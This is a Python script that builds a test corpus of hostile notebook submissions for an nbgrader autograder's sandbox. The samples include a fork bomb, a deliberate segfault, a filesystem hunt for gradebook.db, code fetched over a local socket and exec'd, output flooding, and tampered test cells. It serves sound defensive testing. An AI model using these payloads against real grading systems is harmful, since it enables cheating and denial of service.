"""Write the hostile-submission corpus from the fixture's release version.

Run after changing the fixture: `.venv/bin/python tests/pipeline/make_corpus.py`. Each case is a
learner's copy (tests/pipeline/submissions/<case>/00_fixture/00_fixture.ipynb) named after what
it tries; EXPECTED in test_hostile.py says what each must score and why.
"""

from __future__ import annotations

import copy
import shutil
import sys
import tempfile
from pathlib import Path

import nbformat

HERE = Path(__file__).parent
ASSIGNMENT = "00_fixture"
NETWORK_PORT = 47361  # tests/pipeline serves the answer here, outside the sandbox

CORRECT = '''def next_state(state, event):
    table = {
        ("FIN_WAIT_1", "ack_of_fin"): "FIN_WAIT_2",
        ("FIN_WAIT_1", "fin"): "CLOSING",
        ("FIN_WAIT_2", "fin"): "TIME_WAIT",
        ("CLOSING", "ack_of_fin"): "TIME_WAIT",
    }
    return table.get((state, event), state)
'''

ANSWERS = {
    "correct": CORRECT,
    "syntax-error": "def next_state(state, event)\n    return state\n",
    "infinite-loop": "while True:\n    pass\n" + CORRECT,
    "kernel-crash": CORRECT + '''
_original = next_state
def next_state(state, event):
    if state == "FIN_WAIT_2":
        import ctypes
        ctypes.string_at(0)  # segmentation fault: the kernel dies here
    return _original(state, event)
''',
    "reads-gradebook": '''import glob, os
found = []
for up in range(1, 8):  # the course root above the notebook, as in a plain nbgrader autograde
    found += glob.glob(os.path.join(*[".."] * up, "gradebook.db"))
for top in ("/tmp", "/work", os.path.expanduser("~")):
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) - top.count(os.sep) >= 5:
            dirs[:] = []
        found += [os.path.join(root, f) for f in files if f == "gradebook.db"]
readable = []
for path in found:
    try:
        with open(path, "rb") as f:
            readable.append((path, f.read(16)))
    except OSError:
        pass
print("gradebooks readable:", len(readable))
if not readable:
    raise PermissionError("no gradebook readable from the learner's kernel")
''' + CORRECT,
    "network-access": f'''import socket
with socket.create_connection(("127.0.0.1", {NETWORK_PORT}), timeout=3) as s:
    answer = s.makefile().read()  # the answer, fetched from a server outside the sandbox
exec(answer)
''',
    "huge-output": "for i in range(30_000):\n    print('flood', i, 'x' * 40)\n" + CORRECT,
    "fork-bomb-limited": '''import os, time
children = []
for _ in range(300):  # bounded, so a missing limit costs 300 sleeping processes, not the machine
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    children.append(pid)
''' + CORRECT,
}


def _answer_cell(nb):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def variants(release) -> dict[str, nbformat.NotebookNode]:
    out = {}
    for case, answer in ANSWERS.items():
        nb = copy.deepcopy(release)
        _answer_cell(nb).source = answer
        out[case] = nb
    out["blank"] = copy.deepcopy(release)
    nb = copy.deepcopy(out["correct"])
    nb.cells.remove(_cell(nb, "test_fin_wait_2_fin"))
    out["deleted-test-cells"] = nb
    nb = copy.deepcopy(out["correct"])
    _cell(nb, "test_fin_wait_1_ack_of_fin").source = "assert True  # the test, made to pass"
    out["edited-test-cells"] = nb
    nb = copy.deepcopy(out["correct"])
    _cell(nb, "test_fin_wait_2_fin").metadata.nbgrader["points"] = 100
    out["tampered-metadata-points"] = nb
    return out


def main() -> None:
    sys.path.insert(0, str(HERE.parents[1]))
    from autograder.pipeline.course import Course
    from autograder.pipeline.steps import generate

    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "course"
        shutil.copytree(HERE / "fixtures", root)
        shutil.copy(HERE.parents[1] / "course" / "nbgrader_config.py", root)
        release = generate(Course.at(root), ASSIGNMENT) / f"{ASSIGNMENT}.ipynb"
        nb = nbformat.read(release, as_version=4)
    for case, variant in variants(nb).items():
        dest = HERE / "submissions" / case / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
        dest.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(variant, dest)
        print("wrote", dest.relative_to(HERE))


if __name__ == "__main__":
    main()
